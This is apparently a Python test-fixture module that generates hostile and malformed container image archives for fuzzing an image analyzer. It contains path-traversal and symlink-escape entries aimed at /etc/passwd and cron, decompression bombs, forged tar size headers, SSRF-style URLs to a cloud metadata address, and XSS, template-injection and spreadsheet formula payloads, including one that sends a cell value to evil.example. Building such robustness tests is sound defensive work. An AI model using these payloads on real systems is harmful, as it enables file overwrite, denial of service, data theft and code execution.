"""Archives that mean harm, or were made with none, each named for what is wrong with it.

`CORPUS` has them by name, as functions that make the bytes. All are small, but what they claim or unfold to may not be.
"""

import gzip
import io
import json
import random
import tarfile
from collections.abc import Callable, Iterable, Iterator
from functools import cache, partial
from typing import Any

from analyzer.oci.digest import digest_of
from tests.archives import (
    Device,
    Dir,
    Entry,
    Fifo,
    File,
    Hardlink,
    Image,
    Layer,
    Members,
    Opaque,
    Symlink,
    Whiteout,
    compress,
    content,
    docker_save,
    dumps,
    image,
    layer,
    oci_layout,
    tar,
)

Make = Callable[[], bytes]
CORPUS: dict[str, Make] = {}

ORDINARY = image(
    [
        layer({"etc/motd": b"hello", "srv/data.bin": random.Random(1).randbytes(9_000)}, compression="gzip"),
        layer({"etc/motd": b"hello again", "srv/more": random.Random(2).randbytes(9_000)}, compression="gzip"),
    ],
    tags=["ordinary:1"],
)

# --- damage ----------------------------------------------------------------------------------------------------------

CUTS, FLIPS = 20, 10


@cache
def whole(form: str) -> bytes:
    return tar(docker_save(ORDINARY) if form == "docker" else oci_layout(ORDINARY))


def _cut(form: str, place: int) -> Make:
    """The archive up to a place; the last of them is just short of its end."""
    return lambda: whole(form)[: len(whole(form)) * place // (CUTS // 2) - (700 if place == CUTS // 2 else 0)]


def _flipped(form: str, seed: int) -> Make:
    def made() -> bytes:
        data, chance = bytearray(whole(form)), random.Random(seed)
        for _ in range(chance.choice((1, 3, 40))):
            data[chance.randrange(len(data))] ^= 1 << chance.randrange(8)
        return bytes(data)

    return made


for _form in ("docker", "oci"):
    for _place in range(1, CUTS // 2 + 1):
        CORPUS[f"{_form}-cut-at-{_place}-of-{CUTS // 2}"] = _cut(_form, _place)
    for _seed in range(FLIPS // 2):
        CORPUS[f"{_form}-bits-flipped-{_seed}"] = _flipped(_form, _seed)


# --- paths and links -------------------------------------------------------------------------------------------------


def _layers(**named: Iterable[tuple[str | bytes, Entry | bytes]] | dict[Any, Any]) -> None:
    """An archive for each, whose second layer has the entries."""
    for name, entries in named.items():
        description = entries if isinstance(entries, dict) else list(entries)
        CORPUS[name.replace("_", "-")] = partial(_upper, description, f"{name}:1")


def _upper(description: Any, tag: str) -> bytes:
    lower = layer({"etc/passwd": b"root:x:0:0", "a/b/c": b"below"})
    return tar(docker_save(image([lower, layer(description)], tags=[tag])))


_layers(
    paths_that_climb_out={"../../../../tmp/escaped": b"1", "a/../../../etc/cron.d/x": b"2", "..": Dir(), "a/..": b"3"},
    paths_that_are_absolute={"/etc/passwd": b"1", "//etc//shadow": b"2", "///": Dir(), "C:\\boot.ini": b"3"},
    links_that_climb_out=[
        ("out", Symlink(target="../../../../../etc/passwd")),
        ("out/through", b"written through the link"),
        ("hard", Hardlink(target="../../../../etc/passwd")),
        ("root", Symlink(target="/")),
        ("root/etc/passwd", b"x"),
    ],
    loops_of_links=[
        ("a1", Symlink(target="a2")),
        ("a2", Symlink(target="a1")),
        ("self", Symlink(target="self")),
        ("self/below", b"1"),
        ("h1", Hardlink(target="h2")),
        ("h2", Hardlink(target="h3")),
        ("h3", Hardlink(target="h1")),
        ("own", Hardlink(target="own")),
        ("dir", Symlink(target="dir/dir/dir")),
    ],
    a_chain_of_5_000_hard_links=[
        ("h0", File(data=b"x")),
        *((f"h{n}", Hardlink(target=f"h{n - 1}")) for n in range(1, 5_000)),
    ],
    one_path_5_000_times=[("same", File(data=b"%d" % n)) for n in range(5_000)],
    types_that_change_in_one_layer=[
        ("x", Dir()),
        ("x/y", b"1"),
        ("x", b"2"),
        ("x/z", b"3"),
        ("x", Symlink(target="y")),
        ("x/y/z", Fifo()),
        ("x", Whiteout()),
    ],
    whiteouts_of_all_kinds=[
        ("", Opaque()),
        ("a", Opaque()),
        ("a/b", Whiteout()),
        (".wh.", b""),
        ("a/.wh..", b""),
        ("a/.wh...", b""),
        (".wh..wh.plnk/1", b""),
        (".wh..wh..opq/inside", b""),
        (".wh..wh.x", Dir()),
        ("a/.wh.b/c", b"below a whiteout"),
        (".wh." + "n" * 250, b""),
    ],
    devices_and_rights={
        "dev/mem": Device(major=1, minor=1),
        "dev/sda": Device(major=8, minor=0, block=True),
        "dev/odd": Device(major=0o7777777, minor=0o7777777),
        "bin/su": File(mode=0o6777, data=b"#!"),
        "pipe": Fifo(),
    },
    attributes_out_of_range=[
        ("late", File(mtime=2**62, data=b"1")),
        ("early", File(mtime=-(2**62), data=b"1")),
        ("owner", File(uid=2**53, gid=2**53)),
        ("mode", File(mode=0o7777777)),
        ("part", File(mtime=1e18 + 0.5)),
    ],
    a_path_of_4_000_bytes={"/".join(["d" * 200] * 19) + "/f": b"x", "n" * 3_900: b"y"},
    a_path_over_the_limit={"/".join(["d" * 200] * 30) + "/f": b"x", "ok": b"y"},
    a_folder_1_500_deep={"/".join(["d"] * 1_500): b"x"},
    attributes_of_a_megabyte={"x": File(xattrs={"user.big": b"v" * (1 << 20), "user." + "k" * 60_000: b"\0\xff"})},
)


def _outer(name: str, change: Callable[[Members], Members]) -> None:
    """The ordinary archive with its outer tar's members changed."""
    CORPUS[name] = lambda: tar(change(docker_save(ORDINARY)))


def _with(**more: bytes | Entry) -> Callable[[Members], Members]:
    return lambda members: members | dict(more)


def _layers_are(entry: Entry) -> Callable[[Members], Members]:
    return lambda members: {name: entry if name.endswith("layer.tar") else each for name, each in members.items()}


_outer("layers-that-link-to-the-servers-files", _layers_are(Symlink(target="../../../../../../../etc/passwd")))
_outer("layers-that-link-to-themselves", _layers_are(Symlink(target="layer.tar")))
_outer("layers-that-are-devices", _layers_are(Device()))
_outer("layers-that-are-folders", _layers_are(Dir()))
_outer(
    "documents-outside-the-archive",
    _with(
        **{"manifest.json": dumps([{"Config": "../../../etc/passwd", "Layers": ["/dev/zero", "/proc/self/environ"]}])}
    ),
)
_outer(
    "members-outside-the-archive",
    lambda members: {f"../../{name}": entry for name, entry in members.items()} | {"/etc/cron.d/x": b"x"},
)
_outer("manifest-json-that-links-to-itself", _with(**{"manifest.json": Symlink(target="manifest.json")}))


# --- bombs and claims ------------------------------------------------------------------------------------------------


def _zeros(gigabytes: int) -> bytes:
    """That many GiB of zeros, in gzip: one member after the other."""
    return gzip.compress(bytes(1 << 24), mtime=0) * (gigabytes << 6)


def _numbered(count: int, name: str) -> Iterator[bytes]:
    """Headers of empty files with 7 digits at the end of their names, quickly."""
    head = bytearray(tar({f"{name}{0:07}": b""})[:512])
    total = int(head[148:154], 8) - 7 * ord("0")
    at = len(name)
    for number in range(count):
        digits = b"%07d" % number
        head[at : at + 7] = digits
        head[148:154] = b"%06o" % (total + sum(digits))
        yield bytes(head)


def _claimed(size: int, data: bytes = b"few") -> bytes:
    """A tar of a file that claims `size` bytes, and has few."""
    block = bytearray(tar({"claims": data}))
    block[124:136] = b"\x80" + size.to_bytes(11, "big")
    block[148:156] = b" " * 8
    block[148:156] = b"%06o\0 " % sum(block[:512])
    return bytes(block)


def _one_layer(tarred: bytes, name: str, compression: str = "none") -> bytes:
    return tar(docker_save(image([Layer(tarred, compression)], tags=[f"{name}:1"])))


def _sparse(length: int) -> bytes:
    """A PAX sparse file that has nothing but a hole."""
    records = {"major": "1", "minor": "0", "realsize": str(length), "name": "hole"}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as made:
        info = tarfile.TarInfo("GNUSparseFile.0/hole")
        info.pax_headers = {f"GNU.sparse.{key}": value for key, value in records.items()}
        body = b"1\n%d\n0\n" % length
        info.size = 512
        made.addfile(info, io.BytesIO(body + bytes(512 - len(body))))
    return out.getvalue()


def _blob_archive(blob: bytes, name: str) -> bytes:
    """An archive whose one layer is carried as `blob`, whatever it unfolds to."""
    config = dumps(
        {"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [digest_of(b"unknown")]}}
    )
    return tar(
        {
            "config.json": config,
            "blob": blob,
            "manifest.json": dumps([{"Config": "config.json", "RepoTags": [f"{name}:1"], "Layers": ["blob"]}]),
        }
    )


CORPUS |= {
    "a-layer-that-inflates-a-thousandfold": lambda: _blob_archive(_zeros(2), "bomb"),
    "an-archive-that-inflates-a-thousandfold": lambda: _zeros(2),
    "two-hundred-thousand-and-one-members": lambda: gzip.compress(
        b"".join(_numbered(200_001, "member")) + bytes(1024), 1, mtime=0
    ),
    "gzip-in-gzip-in-gzip": lambda: gzip.compress(gzip.compress(gzip.compress(whole("docker")))),
    "zstd-that-claims-a-window-of-two-gigabytes": lambda: _blob_archive(
        b"\x28\xb5\x2f\xfd" + b"\x00" + bytes([21 << 3]) + b"\x03\xff\xff\xff" + b"\0", "window"
    ),
    "a-hundred-thousand-empty-gzip-members": lambda: _blob_archive(gzip.compress(b"", mtime=0) * 100_000, "members"),
    "a-layer-that-claims-eight-exabytes": lambda: _one_layer(_claimed((1 << 63) - 1), "claims"),
    "a-layer-that-claims-more-than-64-bits": lambda: _one_layer(_claimed((1 << 80) - 1), "claims-more"),
    "an-archive-member-that-claims-eight-exabytes": lambda: _claimed((1 << 63) - 1),
    "a-sparse-file-of-an-exabyte": lambda: _one_layer(_sparse(1 << 60), "sparse"),
    "eighty-thousand-implied-folders": lambda: _one_layer(
        compress(tar([(f"{n}/" + "/".join("abcdefgh"), b"") for n in range(10_000)]), "none"), "implied"
    ),
    "five-hundred-and-one-layers": lambda: tar(docker_save(image([{"a": b"1"}] * 501, tags=["many-layers:1"]))),
    "four-hundred-layers-of-one": lambda: tar(docker_save(image([{"a": b"1"}] * 400, tags=["layers:1"]))),
    "a-thousand-tags": lambda: tar(docker_save(image([{"a": b"1"}], tags=[f"tags:{n}" for n in range(1_000)]))),
    "a-pax-header-without-an-end": lambda: _one_layer(
        _claimed((1 << 40), b"").replace(b"claims", b"././@P", 1)[:156] + b"x" + _claimed(1 << 40)[157:], "pax"
    ),
}


# --- documents -------------------------------------------------------------------------------------------------------

DEEP = b"[" * 100_000 + b"]" * 100_000


def _manifest(name: str, document: bytes) -> None:
    _outer(f"manifest-json-{name}", _with(**{"manifest.json": document}))


for _name, _document in {
    "of-null": b"null",
    "of-an-object": b'{"Config": {}}',
    "of-numbers": b"[1, 2, 3]",
    "whose-layers-are-an-object": b'[{"Config": "x", "Layers": {"a": 1}}]',
    "whose-layers-are-numbers": b'[{"Config": 7, "RepoTags": "app:1", "Layers": [1, null, []]}]',
    "that-is-deep": DEEP,
    "that-is-cut": b'[{"Config": "',
    "with-a-number-of-a-million-digits": b"[" + b"9" * 1_000_000 + b"]",
    "that-is-not-utf-8": b'[{"Config": "\xff\xfe"}]',
    "in-utf-16": '[{"Config": "x"}]'.encode("utf-16"),
}.items():
    _manifest(_name, _document)


def _config(name: str, **changed: Any) -> None:
    """The ordinary image with keys of its config changed."""
    tag = f"config-{name}"
    CORPUS[tag] = lambda: tar(docker_save(image(ORDINARY.layers, tags=[f"{tag}:1"], config=changed)))


_config("of-wrong-types", created=7, author=[], os={}, architecture=None, config=[], history={"a": 1}, variant=1.5)
_config("whose-history-is-no-list", history="RUN x", created="yesterday")
_config("whose-steps-are-none", history=[None, 1, "x", [], {"created_by": 5, "empty_layer": "no", "created": []}])
_config("whose-settings-are-of-wrong-types", config={"Env": {"a": 1}, "Cmd": 5, "Labels": ["x"], "ExposedPorts": "80"})
_config("with-lists-in-lists", config={"Env": [["a"], None, 5], "Cmd": [{}], "Labels": {"a": {"b": 1}}, "User": []})
_config("of-times-out-of-range", created="99999-13-45T99:99:99Z", history=[{"created": "0000-00-00T00:00:00Z"}] * 2)
_config(
    "of-numbers-without-measure",
    config={"Labels": {"a": 10**400}, "StopTimeout": -(10**300), "Env": ["A=" + "9" * 9_000]},
)
_config("of-two-thousand-and-one-steps", history=[{"created_by": "RUN x", "empty_layer": True}] * 2_001)
_config("whose-layers-are-no-digests", rootfs={"type": "layers", "diff_ids": ["sha256:xyz", 5]})
_config("without-layers", rootfs=None, history=None)
_config("that-is-deep", config={"Labels": {"a": json.loads(b"[" * 500 + b"]" * 500)}})


def _descriptors(name: str, **changed: Any) -> None:
    """The ordinary layout, where the manifest's descriptors of layers say something else."""

    def made() -> bytes:
        members = oci_layout(ORDINARY)
        manifest = json.loads(ORDINARY.manifest)
        for descriptor in manifest["layers"]:
            descriptor.update(changed)
        raw = dumps(manifest)
        members["blobs/sha256/" + digest_of(raw)[7:]] = raw
        index = json.loads(content(members, "index.json"))
        index["manifests"][0] |= {"digest": digest_of(raw), "size": len(raw)}
        return tar(members | {"index.json": dumps(index)})

    CORPUS[f"descriptors-{name}"] = made


_descriptors("of-a-huge-size", size=(1 << 63) - 1)
_descriptors("of-a-negative-size", size=-1)
_descriptors("of-a-size-in-words", size="many", mediaType=None)
_descriptors("whose-digest-climbs-out", digest="sha256:../../../../etc/passwd")
_descriptors(
    "with-urls-to-fetch", urls=["http://169.254.169.254/latest/", "file:///etc/passwd"], digest="sha256:" + "a" * 64
)


def _index_of_itself() -> bytes:
    members = oci_layout(ORDINARY)
    index: dict[str, Any] = json.loads(content(members, "index.json"))
    for _ in range(8):
        raw = dumps(index)
        members["blobs/sha256/" + digest_of(raw)[7:]] = raw
        kind = "application/vnd.oci.image.index.v1+json"
        index = {"schemaVersion": 2, "manifests": [{"mediaType": kind, "digest": digest_of(raw), "size": len(raw)}] * 9}
    return tar(members | {"index.json": dumps(index)})


CORPUS["indexes-of-nine-indexes-of-nine"] = _index_of_itself


# --- texts -----------------------------------------------------------------------------------------------------------

TEXTS = {
    "markup": "<evil-tag onclick=alert(1)><img src=x onerror=alert(1)>",
    "script": "</script></style></textarea><script>alert(1)</script>",
    "attributes": "\"' onmouseover=alert(1) autofocus onfocus='alert(1)' x=\"",
    "addresses": "javascript:alert(1)//data:text/html,<script>alert(1)</script>",
    "templates": "{{ 7 * 7 }}{% debug %}${7*7}<%= 7 %>",
    "formulas": '=HYPERLINK("http://evil.example/?"&A1;"x")',
    "commands": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "lines": "one\r\ntwo\n=three\ttab\x1b[31mred\x07\u2028line",
    "directions": "gnp.\u202eexe.\u2066x\u2069\u200f",
    "nul": "before\0after",
    "half-characters": "lone \ud800 surrogate \udcff",
    "length": "long-" + "\u0416" * 1_900,
    "combining": "Z" + "\u0335\u0321\u0489" * 300,
}


def texts_image(kind: str) -> Image:
    """An image with the text of the kind wherever there is room for a text."""
    text = TEXTS[kind]
    name = text.encode(errors="surrogatepass").replace(b"\0", b"\\0")
    part = name.replace(b"/", b"_")[:3_000]
    status = b"Package: " + part + b"\nVersion: " + part + b"\nStatus: install ok installed\nSource: " + part + b"\n\n"
    npm = {"name": text, "version": text, "license": text}
    entries: list[tuple[str | bytes, Entry | bytes]] = [
        (part, b"named"),
        (b"=" + part, b"named"),
        (b"in/" + part + b"/file", name),
        (b"in/" + part, Dir(xattrs={"user.x": name})),
        (b"link", Symlink(target=name[:3_000])),
        (b"hard", Hardlink(target=part)),
        (b"texts/" + part[:200] + b".html", b"<script>alert(1)</script>\n" + name),
        (b"texts/page.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
        (b"var/lib/dpkg/status", status),
        (b"lib/apk/db/installed", b"P:" + part + b"\nV:" + part + b"\nL:" + part + b"\n\n"),
        (b"var/lib/rpm/rpmdb.sqlite", b"SQLite format 3\0" + bytes(5_000)),
        (b"usr/lib/python3/dist-packages/x-1.dist-info/METADATA", b"Name: " + part + b"\nVersion: " + part + b"\n"),
        (b"usr/lib/node_modules/x/package.json", dumps(npm)),
    ]
    step = {"created_by": f"RUN {text}", "comment": text, "author": text, "created": text}
    built = image(
        [
            layer({b"gone/" + part: b"gone" * 3_000, "kept": b"1"}),
            layer([*entries, (b"gone/.wh." + part[:240], b"")]),
        ],
        tags=["texts:1"],
        history=[step, {**step, "empty_layer": True}, step | {"created_by": text}],
        platform="linux/amd64",
        config={
            "author": text,
            "created": text,
            "os": text[:90],
            "architecture": text[:90],
            "docker_version": text,
            "config": {
                "Env": [f"A={text}", text],
                "Cmd": [text],
                "Entrypoint": [text, text],
                "User": text,
                "WorkingDir": text,
                "Labels": {
                    text: text,
                    "org.opencontainers.image.source": text,
                    "org.opencontainers.image.base.name": text,
                },
                "ExposedPorts": {text: {}},
                "Volumes": {text: {}},
                "StopSignal": text,
                "Healthcheck": {"Test": ["CMD", text]},
                "OnBuild": [text],
                "Shell": [text],
            },
        },
        annotations={text: text, "org.opencontainers.image.title": text},
    )
    return Image(built.layers, built.config, ("texts:1", f"{kind}:ok", text, f"x/{text}:{text}"), built.annotations)


def texts(kind: str) -> bytes:
    """The image of that kind in an archive."""
    members = oci_layout(texts_image(kind))
    members[TEXTS[kind].replace("\0", "")[:90].encode(errors="ignore").decode()] = b"a member"
    return tar(members)


for _kind in TEXTS:
    CORPUS[f"texts-of-{_kind}"] = partial(texts, _kind)
